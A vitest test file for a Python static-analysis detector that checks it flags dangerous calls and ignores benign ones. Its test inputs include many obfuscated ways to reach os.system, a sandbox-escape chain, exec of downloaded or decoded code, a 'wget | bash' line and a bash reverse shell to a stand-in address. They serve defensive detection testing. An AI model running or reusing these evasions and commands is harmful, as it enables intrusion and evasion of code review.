import { expect, test } from 'vitest';
import { Budget, Limits } from '../../core/budget.ts';
import { analysePython } from '../../formats/python/analyse.ts';
import { sinkSeverity } from '../../patterns/python-sinks/describe.ts';
import { findSinks } from '../../patterns/python-sinks/find-sinks.ts';

/** Sinks of medium severity and above, as `kind callee when`. */
function sinks(source: string): string[] {
  const program = analysePython(Buffer.from(source), new Budget(Limits.parse({})));
  return findSinks(program)
    .filter((sink) => !['info', 'low'].includes(sinkSeverity(sink)))
    .map(({ kind, callee, runsAt }) => `${kind} ${callee} ${runsAt}`);
}

const SYSTEM = ['process os.system import'];

test.each([
  'import os; os.system("id")',
  'import posix; posix.system("id")',
  'from os import *\nsystem("id")',
  'import os as _\ns = _.system\nt = s\nt("id")',
  '__import__("os").system("id")',
  '__import__("o" + "s").__dict__["sys" "tem"]("id")',
  'import importlib as i\ni.import_module("o" "s").system("id")',
  'import sys\nsys.modules["os"].system("id")',
  'import sys\nsys.modules.get("os").system("id")',
  'import os\ngetattr(os, "metsys"[::-1])("id")',
  'import os\ngetattr(os, "".join(["sys", "tem"]))("id")',
  'import os\nvars(os)["system"]("id")',
  'import os\nos.__getattribute__("system")("id")',
  'import os\nobject.__getattribute__(os, "system")("id")',
  'import os\nos.system.__call__("id")',
  'import shutil\nshutil.os.system("id")',
  'import os\nlist(map(os.system, ["id"]))',
  'import os\n(lambda f: f("id"))(os.system)',
  'import os\n[os.system][0]("id")',
  'import os\n(x := os.system)("id")',
  'import os\nx: object = os.system\nx("id")',
  'import os, functools\nfunctools.partial(os.system, "id")()',
  'import os, operator\noperator.attrgetter("system")(os)("id")',
  'import os\ndef f(x=os.system("id")): pass',
  'import os\nclass A:\n  x = os.system("id")',
  'import os\nclass A:\n  def __init__(self):\n    self.go()\n  def go(self):\n    os.system("id")\nA()',
  'import os\n@os.system\ndef f(): pass',
  'import os\nf"{os.system("id")}"',
  'import os \\\n\nos . system ( "id" )',
  'globals()["__builtins__"]["__import__"]("os").system("id")',
  '(lambda: 0).__globals__["os"].system("id")',
])('a process by a detour: %s', (source) => {
  expect(sinks(source)).toEqual(SYSTEM);
});

test.each([
  ['exec(__import__("marshal").loads(b"x"))', 'decoded-code builtins.exec import'],
  ['import base64\np = base64.b64decode("eA==")\nexec(p)', 'decoded-code builtins.exec import'],
  ['import codecs\neval(codecs.decode("x", "rot13"))', 'decoded-code builtins.eval import'],
  ['import requests as r\nexec(r.get("http://192.0.2.1").text)', 'downloaded-code builtins.exec import'],
  ['import os\nos.system("wget -q http://192.0.2.1 -O- | bash")', 'downloaded-code os.system import'],
  ['import subprocess\nsubprocess.run("bash -i >& /dev/tcp/192.0.2.1/1 0>&1", shell=True)', 'reverse-shell subprocess.run import'],
  ['import ctypes\nctypes.CDLL(None).system(b"id")', 'process ctypes.CDLL().system import'],
  ['[].__class__.__base__.__subclasses__()', undefined],
  ['().__class__.__mro__[1].__subclasses__()[1].__init__.__globals__["sys"].modules["os"].popen("id")', 'process os.popen import'],
  ['import os\ngetattr(os, input())("id")', 'computed-name os.<computed> import'],
  ['eval("1")', 'dynamic-code builtins.eval import'],
  ['__builtins__.eval("1")', 'dynamic-code builtins.eval import'],
  ['import types\ntypes.FunctionType(c, {})()', 'dynamic-code types.FunctionType import'],
])('%s', (source, expected) => {
  if (expected === undefined) expect(sinks(source).length).toBeLessThan(2);
  else expect(sinks(source)).toContain(expected);
});

test.each([
  'model.eval()\nself.exec = 1\nre.compile("x")\nimport torch\ntorch.compile(m)',
  'def compile(x): return x\ncompile(1)',
  'from mylib import exec\nexec(1)',
  'def f(eval):\n  return eval(1)',
  'import os\nos.environ.get("LOCAL_RANK")\nos.makedirs("x")\nos.path.join("a", "b")',
  'import torch\ntorch.load("x", weights_only=True)',
  'import importlib\nimportlib.import_module("flash_attn")\nimportlib.util.find_spec("x")',
  'import types\nisinstance(x, types.FunctionType)',
  'def f(url):\n  import requests\n  return requests.get(url)',
  'x = "os.system(1)"\n"""exec(1)"""\n# eval(1)',
  'import subprocess\ntry: pass\nexcept subprocess.CalledProcessError: pass',
  'import torch.nn.functional as F\ngetattr(F, name)',
])('ordinary: %s', (source) => {
  expect(sinks(source)).toEqual([]);
});
